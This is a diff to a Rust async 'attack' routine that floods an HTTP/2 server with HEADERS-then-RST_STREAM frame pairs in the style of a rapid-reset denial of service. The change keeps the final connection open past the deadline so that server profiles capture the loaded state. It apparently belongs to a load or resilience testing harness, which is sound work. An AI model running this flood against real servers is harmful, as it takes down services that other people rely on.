@@ -133,17 +133,28 @@ async fn attack(addr: SocketAddr, deadline: Instant) -> u64 {
         let mut out = frames::PREFACE.to_vec();
         frames::settings(&mut out);
         let mut stream = 1u32;
+        let mut closed = false;
         while Instant::now() < deadline && stream < (1 << 30) {
             for _ in 0..PAIRS_PER_MS {
                 frames::headers_then_reset(&mut out, stream);
                 stream += 2;
             }
             if to_server.write_all(&out).await.is_err() {
+                closed = true;
                 break;
             }
             pairs += PAIRS_PER_MS as u64;
             out.clear();
             tokio::time::sleep(Duration::from_millis(1)).await;
+        }
+        if !closed && Instant::now() >= deadline {
+            // The last connection stays open (its write half would shut
+            // the socket down when dropped; its reader goes on), so that
+            // the server keeps what it queued: the profiles taken while
+            // the program ends see the state it reached, not a connection
+            // torn down a moment before.
+            std::mem::forget(to_server);
+            break;
         }
         reader.abort();
     }
